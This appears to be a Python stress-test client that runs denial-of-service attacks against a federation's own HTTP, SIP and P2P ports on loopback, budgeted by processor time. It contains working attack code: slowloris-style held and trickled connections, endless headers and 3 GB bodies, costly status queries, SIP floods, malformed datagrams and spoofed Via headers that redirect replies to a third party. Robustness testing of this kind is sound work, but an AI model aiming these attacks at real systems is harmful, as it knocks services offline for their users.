"""A hostile client: one process that does to a federation's open ports all that a stranger without a token can do.

    python stranger.py TARGETS.json

TARGETS.json has "http", "sip" and "p2p", lists of [host, port], and "statuses", the nodes of "http" that take
status inquiries; "sources", the addresses to connect from; and "share", the part of one processor that it takes.
It prints a line of JSON each second with its own processor time and how often each attack was made so far.

Attacks take turns by a budget of processor time, so that each gets its part however dear the others are. What a
server closes is opened again. Nothing here needs answers, and nothing leaves the loopback interface.
"""

import asyncio
import contextlib
import errno
import hashlib
import json
import random
import resource
import socket
import sys
import time
from collections import Counter, defaultdict, deque
from collections.abc import Awaitable, Callable, Sequence
from pathlib import Path

Address = tuple[str, int]

THIRD_PARTY = ("127.0.77.1", 5060)
"""Whom a spoofed Via names."""

MAX_SENT_BYTES = 48 * 1024 * 1024
"""What one connection sends at most: as much as froze a server for ten seconds when this was found."""

CHUNK = 64 * 1024
SILENT_HTTP, SILENT_SIP, SILENT_P2P = 250, 250, 100
"""Connections that say nothing, from each source to each target."""

TRICKLE_S = 2.0
TURN_S = 0.002
CREDIT_S = 0.05
"""Processor time that may be saved up for later."""


class Budget:
    """Processor time to be spent: `share` of a processor, over any time longer than a moment.

    Kinds of attack get their turns one after the other, however many wait of each.
    """

    def __init__(self, share: float) -> None:
        self._share = share
        self._credit_s = 0.0
        self._seen_s, self._used_s = time.monotonic(), time.process_time()
        self._waiting: dict[str, deque[asyncio.Future[None]]] = {}

    async def turn(self, kind: str) -> None:
        """Wait until it is this one's turn."""
        mine: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self._waiting.setdefault(kind, deque()).append(mine)
        await mine

    async def run(self) -> None:
        """Give turns as long as there is processor time left."""
        while True:
            given = False
            for waiting in list(self._waiting.values()):
                while not self._left():
                    await asyncio.sleep(TURN_S)
                if waiting:
                    given = True
                    mine = waiting.popleft()
                    if not mine.done():
                        mine.set_result(None)
                await asyncio.sleep(0)
            if not given:
                await asyncio.sleep(TURN_S)

    def _left(self) -> bool:
        now_s, used_s = time.monotonic(), time.process_time()
        earned_s, spent_s = (now_s - self._seen_s) * self._share, used_s - self._used_s
        self._credit_s = min(self._credit_s + earned_s - spent_s, CREDIT_S)
        self._seen_s, self._used_s = now_s, used_s
        return self._credit_s > 0


class Stranger:
    """What it attacks, and how often it has."""

    def __init__(self, targets: dict[str, list[list[object]]], sources: Sequence[str], share: float) -> None:
        self.http, self.sip, self.p2p, self.statuses = (
            [(str(host), int(str(port))) for host, port in targets[name]]
            for name in ("http", "sip", "p2p", "statuses")
        )
        self.sources = sources
        self.budget = Budget(share)
        self.chance = random.Random(4401)
        self.done: dict[str, float] = defaultdict(float)
        self.held: Counter[str] = Counter()

    async def run(self) -> None:
        """Attack until killed."""
        works: list[Awaitable[None]] = [self.tell(), self.budget.run()]
        for target in self.http:
            for attack in (
                self.endless_target,
                self.endless_header,
                self.many_lines,
                self.big_body,
                self.slow_body,
            ):
                works.append(self.repeat(attack, target))
            works += self.silent("http-silent", target, SILENT_HTTP, b"")
        for target in self.statuses:
            works += [self.repeat(self.dear_statuses, target) for _ in range(4)]
            works += self.silent("http-waiting", target, SILENT_HTTP, long_poll(target))
        for target in self.sip:
            for flood in (self.registers, self.malformed, self.max_forwards, self.spoofed):
                works.append(self.repeat(flood, target))
            works += self.silent("sip-silent", target, SILENT_SIP, b"")
            works.append(self.repeat(self.sip_stream, target))
        for target in self.p2p:
            works += self.silent("p2p-silent", target, SILENT_P2P, b"")
        await asyncio.gather(*works)

    async def tell(self) -> None:
        """Print what was done, once a second."""
        while True:
            told = {"cpu_s": time.process_time(), "done": self.done, "held": self.held}
            print(json.dumps(told), flush=True)
            await asyncio.sleep(1)

    async def repeat(self, attack: Callable[[Address], Awaitable[None]], target: Address) -> None:
        """Make one attack again and again; one that the server ends is one, too."""
        name = attack.__name__.replace("_", "-")
        while True:
            await self.budget.turn(name)
            with contextlib.suppress(OSError, TimeoutError):
                await attack(target)
            self.done[name] += 1

    def silent(self, name: str, target: Address, count: int, first: bytes) -> list[Awaitable[None]]:
        """Hold connections from every source that say nothing after `first`."""
        return [self.hold(name, target, source, first) for source in self.sources for _ in range(count)]

    async def hold(self, name: str, target: Address, source: str, first: bytes) -> None:
        """Hold one connection, and open it again when it is closed."""
        await asyncio.sleep(self.chance.random() * 5)
        while True:
            await self.budget.turn(name)
            try:
                reader, writer = await self.connect(target, source)
            except OSError:
                await asyncio.sleep(0.5)
                continue
            self.done[name] += 1
            self.held[name] += 1
            with contextlib.suppress(OSError):
                writer.write(first)
                while await reader.read(CHUNK):
                    await self.budget.turn(name)
                    writer.write(first)
            self.held[name] -= 1
            writer.close()
            await asyncio.sleep(0.2)

    # --- HTTP -------------------------------------------------------------------------------------------------

    async def endless_target(self, target: Address) -> None:
        """A request target that does not end."""
        await self.pour(target, b"GET /", b"a" * CHUNK)

    async def endless_header(self, target: Address) -> None:
        """A header that does not end."""
        await self.pour(target, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", b"a" * CHUNK)

    async def many_lines(self, target: Address) -> None:
        """Header lines that do not end."""
        await self.pour(target, b"GET / HTTP/1.1\r\nHost: a\r\n", b"a: b\r\n" * (CHUNK // 6))

    async def big_body(self, target: Address) -> None:
        """A body of 3 GB, which is announced and sent whatever the answer is."""
        head = b"POST /ledger/v1/transactions HTTP/1.1\r\nHost: a\r\nContent-Length: 3221225472\r\n\r\n"
        await self.pour(target, head, b"a" * CHUNK)

    async def slow_body(self, target: Address) -> None:
        """A body that comes an octet at a time."""
        head = b"POST /ledger/v1/transactions HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n"
        _, writer = await self.connect(target, self.chance.choice(self.sources))
        with contextlib.closing(writer):
            writer.write(head)
            for _ in range(1000):
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(TRICKLE_S)
                await self.budget.turn("slow-body")

    async def dear_statuses(self, target: Address) -> None:
        """A status inquiry about 1,000 certificates."""
        body = json.dumps({"digests": [hashlib.sha256(self.chance.randbytes(8)).hexdigest() for _ in range(1000)]})
        head = f"POST /ledger/v1/statuses HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n"
        reader, writer = await self.connect(target, self.chance.choice(self.sources))
        with contextlib.closing(writer):
            writer.write(f"{head}Connection: close\r\n\r\n{body}".encode())
            while await reader.read(CHUNK):
                await self.budget.turn("dear-statuses")

    async def pour(self, target: Address, head: bytes, endless: bytes) -> None:
        """Send `head` and then `endless`, over and over, until the server ends the connection."""
        reader, writer = await self.connect(target, self.chance.choice(self.sources))
        with contextlib.closing(writer):
            writer.write(head)
            for _ in range(MAX_SENT_BYTES // len(endless)):
                await self.budget.turn(head[:60].decode())
                writer.write(endless)
                self.done["sent-mb"] += len(endless) / 1e6
                await asyncio.wait_for(writer.drain(), 30)
                if reader.at_eof():
                    return

    # --- SIP --------------------------------------------------------------------------------------------------

    async def registers(self, target: Address) -> None:
        """REGISTER without credentials, each for itself."""
        self.send(target, *[self.request("REGISTER", "sip:a.example") for _ in range(20)])

    async def max_forwards(self, target: Address) -> None:
        """A number of 4,401 digits."""
        digits = "0" * 4400 + "7"
        self.send(target, *[self.request(method, "sip:a.example", digits) for method in ("OPTIONS", "INVITE")])

    async def spoofed(self, target: Address) -> None:
        """A Via that tells of somebody else, who would get the answers."""
        via = f";received={THIRD_PARTY[0]};rport={THIRD_PARTY[1]}"
        self.send(target, *[self.request("INVITE", "sip:+493023125002@a.example", via=via) for _ in range(5)])

    async def malformed(self, target: Address) -> None:
        """Requests with some of their octets changed, moved or missing."""
        for _ in range(10):
            octets = bytearray(
                self.request(self.chance.choice(("INVITE", "REGISTER", "BYE", "ACK")), "sip:a.example")
            )
            for _ in range(self.chance.randint(1, 6)):
                at = self.chance.randrange(len(octets))
                octets[at : at + self.chance.choice((0, 1, 9))] = self.chance.randbytes(
                    self.chance.choice((0, 1, 9))
                )
            self.send(target, bytes(octets))

    async def sip_stream(self, target: Address) -> None:
        """A message over TCP that does not end."""
        await self.pour(target, b"OPTIONS sip:a.example SIP/2.0\r\nVia: ", b"a" * CHUNK)

    def request(self, method: str, uri: str, max_forwards: str = "70", via: str = "") -> bytes:
        """Write a request that nobody has sent before."""
        name = f"{self.chance.getrandbits(64):016x}"
        host = self.chance.choice(self.sources)
        lines = [
            f"{method} {uri} SIP/2.0",
            f"Via: SIP/2.0/UDP {host}:5060;branch=z9hG4bK{name}{via}",
            f"Max-Forwards: {max_forwards}",
            f"From: <sip:+493023125001@a.example>;tag={name[:8]}",
            f"To: <{uri}>",
            f"Call-ID: {name}",
            f"CSeq: 1 {method}",
            f"Contact: <sip:x@{host}>",
            "Content-Length: 0",
        ]
        return "\r\n".join([*lines, "", ""]).encode()

    def send(self, target: Address, *datagrams: bytes) -> None:
        """Send datagrams from one of the sources, and do not wait for answers."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setblocking(False)
            sock.bind((self.chance.choice(self.sources), 0))
            for datagram in datagrams:
                try:
                    sock.sendto(datagram, target)
                except OSError as error:
                    if error.errno not in (errno.EAGAIN, errno.ECONNREFUSED, errno.ENOBUFS):
                        raise

    async def connect(self, target: Address, source: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Connect from a source."""
        async with asyncio.timeout(10):
            return await asyncio.open_connection(*target, local_addr=(source, 0))


def long_poll(target: Address) -> bytes:
    """Write a question that is not answered before 30 s have passed."""
    path = "/ledger/v1/blocks?from=900000000&wait_ms=30000"
    return f"GET {path} HTTP/1.1\r\nHost: {target[0]}\r\n\r\n".encode()


def main() -> None:
    """Attack until killed, with as many open connections as the system allows."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    plan = json.loads(Path(sys.argv[1]).read_text())
    asyncio.run(Stranger(plan, plan["sources"], plan["share"]).run())


if __name__ == "__main__":
    main()
